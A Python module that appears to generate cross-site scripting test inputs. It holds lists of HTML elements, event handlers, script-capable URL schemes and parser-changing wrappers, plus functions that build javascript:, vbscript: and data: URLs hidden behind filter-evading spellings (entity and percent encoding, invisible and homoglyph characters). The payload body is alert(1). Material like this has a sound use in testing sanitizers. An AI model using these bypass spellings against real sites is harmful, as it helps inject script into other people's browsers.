"""The words of the hostile texts: elements, handlers, schemes, and the disguises of an address that runs a script."""

from __future__ import annotations

import base64
import random
from urllib.parse import quote

CALL = "alert(1)"

VOID = ["img", "input", "embed", "link", "source", "track", "area", "base", "meta", "frame", "keygen", "image", "wbr"]
ELEMENTS = [
    "script",
    "iframe",
    "svg",
    "math",
    "object",
    "video",
    "audio",
    "form",
    "button",
    "details",
    "select",
    "textarea",
    "style",
    "template",
    "noscript",
    "body",
    "marquee",
    "table",
    "div",
    "xss",
    "dialog",
    "a",
    "p",
    "em",
    "li",
    "ol",
    "blockquote",
    "code",
    "title",
    "xmp",
    "plaintext",
    "noembed",
    "frameset",
    "isindex",
    "portal",
    "slot",
    "bdo",
    "font",
]
HANDLERS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "ontransitionend",
    "onwheel",
    "onpointerenter",
    "onscroll",
    "onbeforetoggle",
    "oninput",
    "onstart",
    "onfinish",
    "onauxclick",
    "oncanplay",
    "ondrag",
    "onresize",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "oncopy",
    "onsubmit",
]
SCHEMES = [
    "javascript",
    "vbscript",
    "data",
    "livescript",
    "jar",
    "file",
    "blob",
    "about",
    "view-source",
    "ws",
    "ftp",
    "mailto",
]
SEPARATORS = (" ", "/", "\t", "\n", "\r\n", "\x0c", "/ /", " \x00", "\u00a0", "\u2028", '"', "'", "&Tab;", "//")
# Elements inside which browsers change the way they parse.
WRAPPERS = [
    "svg",
    "math",
    "mtext",
    "mi",
    "mglyph",
    "malignmark",
    "desc",
    "foreignObject",
    "title",
    "style",
    "noscript",
    "template",
    "table",
    "select",
    "option",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "form",
    "p",
    "a",
    "annotation-xml",
]
QUOTES = ('"', "'", "`", "")


def disguised(scheme: str, chance: random.Random) -> str:
    """Return the scheme in one of the spellings that have fooled filters before."""
    at = chance.randrange(1, len(scheme))
    invisible = chance.choice(
        ("\t", "\n", "\r", "\x00", "\x01", "\x0b", "\x7f", "\u200b", "\u200d", "\u00ad", "\u2028", "\u202e")
    )
    options = [
        scheme,
        scheme.upper(),
        "".join(chance.choice((char.lower(), char.upper())) for char in scheme),
        scheme[:at] + invisible + scheme[at:],
        invisible + scheme,
        " " + scheme,
        scheme[:at] + "&Tab;" + scheme[at:],
        scheme[:at] + "&NewLine;" + scheme[at:],
        scheme[:at] + "&#9;" + scheme[at:],
        "".join(f"&#{ord(char)};" for char in scheme),
        "".join(f"&#x{ord(char):x};" for char in scheme),
        "".join(f"&#{ord(char):07d}" for char in scheme),
        quote(scheme[:at]) + "%0a" + scheme[at:],
        "".join(f"%{ord(char):02x}" for char in scheme),
        "".join(chr(ord(char) + 0xFEE0) if char.isalpha() else char for char in scheme),
        scheme.replace("s", "\u017f").replace("i", "\u0131"),
        scheme[:at] + "\\" + scheme[at:],
        "&#x1;" + scheme,
        "feed:" + scheme,
        "http:" + scheme,
    ]
    return chance.choice(options)


def address(chance: random.Random) -> str:
    scheme = chance.choice((*SCHEMES, "javascript", "javascript", "data"))
    colon = chance.choice((":", ":", ":", "&colon;", "&#58;", "&#x3a;", "%3a", "\uff1a", ":\t", "&#0058"))
    body = chance.choice(
        (
            CALL,
            f"//%0a{CALL}",
            f"/*x*/{CALL}",
            "123",
            "text/html," + f"<script>{CALL}</script>",
            "text/html;base64," + base64.b64encode(f"<script>{CALL}</script>".encode()).decode(),
            f"image/svg+xml,<svg onload={CALL}>",
            f"https://a.example/%0a{CALL}",
            f"\\u0061lert(1)//{chance.randrange(99)}",
        )
    )
    return disguised(scheme, chance) + colon + body
